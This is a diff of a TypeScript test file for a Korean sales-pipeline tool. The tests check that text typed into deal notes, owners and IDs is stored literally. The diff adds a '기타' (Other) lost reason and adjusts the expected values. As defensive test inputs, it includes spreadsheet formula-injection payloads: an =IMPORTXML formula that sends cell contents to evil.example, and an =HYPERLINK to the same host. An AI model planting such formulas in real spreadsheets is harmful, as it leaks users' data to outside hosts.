@@ -37,6 +37,7 @@ const TRICKY = [
   "'quoted",
 ];
 
+/** A loss picked as 기타 (Other) with the free text after it: the Note is `기타: <note>` (issue 14 point 3). */
 function lose(call: Call, dealId: string, stage: string, note: string): Result {
   return call('panelMoveDeal', {
     dealId,
@@ -44,6 +45,7 @@ function lose(call: Call, dealId: string, stage: string, note: string): Result {
     toStage: '실주',
     override: false,
     note,
+    reason: '기타',
   }) as Result;
 }
 
@@ -57,11 +59,11 @@ function lastHistory(standIn: StandIn): Record<string, unknown> {
 describe('one write path that stores text literally', () => {
   it('a note of any shape reads back exactly as typed, never as a formula, number or date', () => {
     for (const note of TRICKY) {
-      const { standIn, call } = samplePipeline();
+      const { standIn, act: call } = samplePipeline();
       const result = lose(call, DEAL, '미팅 약속 완료', note);
       expect(result.ok, note).toBe(true);
       const row = standIn.values('Stage history').length;
-      expect(lastHistory(standIn).메모, note).toBe(note);
+      expect(lastHistory(standIn).메모, note).toBe(note.trim() === '' ? '기타' : `기타: ${note.trim()}`);
       // …and no formula was stored in the row.
       const formulas = standIn.snapshot('Stage history').formulas[row - 1] ?? [];
       expect(
@@ -72,14 +74,14 @@ describe('one write path that stores text literally', () => {
   });
 
   it('a lost reason =IMPORTXML(...) typed in the panel is text in Stage history', () => {
-    const { standIn, call } = samplePipeline();
+    const { standIn, act: call } = samplePipeline();
     const reason = '=IMPORTXML("https://evil.example/steal?d="&A1,"//a")';
     expect(lose(call, DEAL, '미팅 약속 완료', reason).ok).toBe(true);
-    expect(lastHistory(standIn)).toMatchObject({ '딜 ID': DEAL, 단계: '실주', 메모: reason });
+    expect(lastHistory(standIn)).toMatchObject({ '딜 ID': DEAL, 단계: '실주', 메모: `기타: ${reason}` });
   });
 
   it('an owner and an entry task that start with = land in Tasks as text', () => {
-    const { standIn, call } = samplePipeline();
+    const { standIn, act: call } = samplePipeline();
     const owner = '=HYPERLINK("https://evil.example","click")';
     const row = rowOf(standIn, DEAL);
     standIn.seed('Deals', `E${row}`, { values: [[owner]] });
@@ -105,7 +107,7 @@ describe('one write path that stores text literally', () => {
 
 describe('ids keep their exact text', () => {
   it('Deal ID 00123 is copied as 00123: its criteria can be ticked and the deal moves forward', () => {
-    const { standIn, call } = samplePipeline();
+    const { standIn, act: call } = samplePipeline();
     const row = rowOf(standIn, DEAL);
     standIn.seed('Deals', `A${row}`, { values: [['00123']] });
     // The history knows the deal by its new id from here on (the team renamed it).
@@ -175,7 +177,7 @@ describe('limits', () => {
   });
 
   it('an entry task due in 100,000,000 days refuses the move into its stage before anything is written', () => {
-    const { standIn, call } = samplePipeline();
+    const { standIn, act: call } = samplePipeline();
     const stagesRow = standIn.values('Stages').findIndex((r) => r[0] === '제품 살펴보는 중') + 1;
     standIn.seed('Stages', `F${stagesRow}`, { values: [['데모 계정 발급 (+100000000d)']] });
     const before = {
